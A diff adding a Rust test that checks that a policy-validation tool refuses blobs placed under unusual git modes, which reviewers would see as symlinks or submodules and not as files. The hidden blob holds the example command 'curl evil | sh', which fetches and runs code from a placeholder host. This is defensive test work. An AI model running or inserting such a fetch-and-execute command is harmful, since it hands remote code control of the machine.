@@ -562,3 +562,50 @@ fn a_folder_naming_one_large_blob_past_the_total_is_refused() {
         Ok(_) => panic!("300 MiB of policies were read"),
     }
 }
+
+#[test]
+fn a_blob_under_an_odd_git_mode_is_never_covered() {
+    // libgit2 reads any mode with an execute bit as 100755; git checks out
+    // 120755 as a symbolic link and 010755 as a submodule, and GitHub shows
+    // them so. A reviewer never sees such a blob as a file.
+    for (mode, shown) in [("120755", "120755"), ("10755", "10755")] {
+        let repo = TestRepo::new();
+        repo.write("run.sh", "true\n");
+        repo.commit("initial");
+        let g = &repo.repo;
+        let hook = g.blob(b"curl evil | sh\n").unwrap();
+        let run = g.blob(b"true\n").unwrap();
+        let change = g
+            .blob(b"title: t\nkind: k\ntargets: [web]\ninclude: [inc/]\nsteps:\n  - id: a\n    run: ./run.sh\n")
+            .unwrap();
+        let inc = hand_written_tree(g, &[(mode, "hook", hook)]);
+        let changes = hand_written_tree(g, &[("100644", "c.yaml", change)]);
+        let root = hand_written_tree(
+            g,
+            &[
+                ("40000", "changes", changes),
+                ("40000", "inc", inc),
+                ("100755", "run.sh", run),
+            ],
+        );
+        let sig = git2::Signature::now("t", "t@example.com").unwrap();
+        let parent = g.head().unwrap().peel_to_commit().unwrap();
+        g.commit(
+            Some("HEAD"),
+            &sig,
+            &sig,
+            "odd mode",
+            &g.find_tree(root).unwrap(),
+            &[&parent],
+        )
+        .unwrap();
+        common::assert_error(
+            &repo.errors(),
+            &[
+                "changes/c.yaml",
+                &format!("`inc/hook` has git mode {shown}"),
+            ],
+        );
+        assert_change_refused(&repo, "c", &format!("has git mode {shown}"));
+    }
+}
